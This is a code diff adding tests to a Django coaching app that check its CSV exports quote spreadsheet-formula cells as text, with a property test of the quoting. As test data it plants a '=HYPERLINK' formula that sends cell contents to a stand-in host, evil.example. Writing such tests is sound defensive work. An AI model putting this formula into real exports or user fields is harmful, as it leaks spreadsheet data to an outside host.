@@ -7,7 +7,10 @@ import io
 import json
 
 from django.test import Client
+from hypothesis import given
+from hypothesis import strategies as st
 
+from runstrong.exports.csv_cells import csv_cell, csv_cell_read
 from runstrong.web.coaching.models import BenchmarkResult, SessionLog, SetLog
 from runstrong.web.coaching.session_log import (
     PainEntry,
@@ -103,3 +106,40 @@ def test_a_log_from_before_pain_per_exercise_exports_its_one_score_on_every_set(
     rows = list(csv.DictReader(io.StringIO(download(client, "/coach/export/logs.csv"))))
     done = [row for row in rows if row["status"] == "done"]
     assert {(row["pain"], row["pain_where"]) for row in done} == {("4", "sore knee")}
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_quoted_as_text(
+    client: Client, world: World
+) -> None:
+    """Athlete text starting with = + - @ tab or CR opens as text, not as a formula."""
+    world.athlete_a.name = "@SUM(1+1)"
+    world.athlete_a.save(update_fields=["name"])
+    log_some(world)
+    SessionLog.objects.filter(status="missed").update(
+        missed_reason='=HYPERLINK("https://evil.example/?"&A1,"open")'
+    )
+    BenchmarkResult.objects.create(
+        athlete=world.athlete_a, date=world.today, movement="heel-raise", value=20
+    )
+    login(client, world.coach_x)
+    rows = list(csv.DictReader(io.StringIO(download(client, "/coach/export/logs.csv"))))
+    assert {row["athlete"] for row in rows if row["athlete_id"] == str(world.athlete_a.pk)} == {
+        "'@SUM(1+1)"
+    }
+    (missed,) = [row for row in rows if row["status"] == "missed"]
+    assert missed["missed_reason"] == '\'=HYPERLINK("https://evil.example/?"&A1,"open")'
+    assert all(
+        not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+        for row in rows
+        for cell in row.values()
+    )
+    results = list(csv.DictReader(io.StringIO(download(client, "/coach/export/results.csv"))))
+    assert results[0]["athlete"] == "'@SUM(1+1)"
+    assert results[0]["value"] == "20.0" or float(results[0]["value"]) == 20, "numbers stay numbers"
+
+
+@given(st.text())
+def test_every_text_survives_the_formula_quote_and_none_starts_a_formula(text: str) -> None:
+    written = csv_cell(text)
+    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert csv_cell_read(written) == text
